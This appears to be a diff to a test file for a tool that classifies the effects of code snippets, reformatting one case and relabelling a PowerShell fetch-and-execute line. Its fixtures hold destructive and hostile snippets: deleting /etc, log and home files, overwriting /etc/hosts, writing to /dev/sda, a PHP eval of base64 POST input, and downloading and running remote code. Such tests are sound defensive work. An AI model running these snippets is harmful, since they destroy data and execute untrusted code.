@@ -36,7 +36,11 @@ def read(language: str, text: str, *args: str) -> tuple[list[str], list[str], bo
         ("from pathlib import Path\n(Path('/etc') / 'hosts').write_text('')", ["overwrite:system:light"], []),
         ("import glob, os\n[os.remove(f) for f in glob.glob('/var/log/*.log')]", ["delete:system"], []),
         ("import os\nfor f in os.listdir('/etc'):\n  os.remove(os.path.join('/etc', f))", ["delete:system"], []),
-        ("import os\nfor r, d, fs in os.walk('/home/me'):\n  for f in fs: os.remove(os.path.join(r, f))", ["delete:home"], []),
+        (
+            "import os\nfor r, d, fs in os.walk('/home/me'):\n  for f in fs: os.remove(os.path.join(r, f))",
+            ["delete:home"],
+            [],
+        ),
         ("open('/etc/hosts', 'w').write('')", ["overwrite:system:light"], []),
         ("with open('/etc/hosts', mode='a') as f: f.write('x')", ["write:system:light"], []),
         ("open('/dev/sda', 'wb').write(b'0')", ["device:system"], []),
@@ -200,7 +204,7 @@ def test_other_languages(language: str, text: str, effects: list[str], shell: li
         ("node", "eval(process.argv[1])", ["run-opaque:unknown"]),
         ("php", "eval(base64_decode($_POST['x']));", ["run-opaque:unknown"]),
         ("php", "eval(file_get_contents('http://x.example'));", ["run-remote:remote"]),
-        ("pwsh", "iwr http://x.example | iex", ["run-remote:remote"]),
+        ("pwsh", "iwr http://x.example | iex", ["run-remote:unknown"]),
         ("cobol", "DISPLAY 'x'", []),
     ],
 )
